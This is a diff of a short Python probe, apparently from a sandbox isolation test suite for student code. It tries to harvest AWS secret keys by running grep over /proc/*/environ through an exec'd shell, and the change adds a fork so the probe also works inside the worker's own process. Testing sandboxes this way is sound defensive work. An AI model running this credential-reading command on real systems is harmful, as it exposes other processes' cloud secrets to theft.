@@ -1,12 +1,13 @@
 # SPDX-License-Identifier: MIT
 """Goal:  the worker's credentials, by tools that every image has.
-Means: a shell for the pattern, and grep, in the student's own place: nothing is forked. A check of
-       the source, or a hook inside the interpreter, has nothing to look at.
+Means: a shell for the pattern, and grep, in the student's own place: nothing is forked, but where
+       that place is the worker's own. A check of the source, or a hook inside the interpreter, has
+       nothing to look at.
 """
 
 import os
 
-from attack import attempting, denied
+from attack import DONE, attempting, denied
 
 # -z: entries end in NUL; -a: as text; -h: without names; -s: silent on what may not be read
 LINE = "exec grep -zahs ^AWS_SECRET_ACCESS_KEY= /proc/[0-9]*/environ"
@@ -15,6 +16,9 @@ LINE = "exec grep -zahs ^AWS_SECRET_ACCESS_KEY= /proc/[0-9]*/environ"
 def run(brief):
     attempting()
     try:
+        if os.getpid() == brief.worker and (child := os.fork()):
+            os.waitpid(child, 0)
+            return DONE
         os.execve("/bin/sh", ["sh", "-c", LINE], {"PATH": "/usr/bin:/bin"})
     except OSError as why:
         return denied("sh", why)
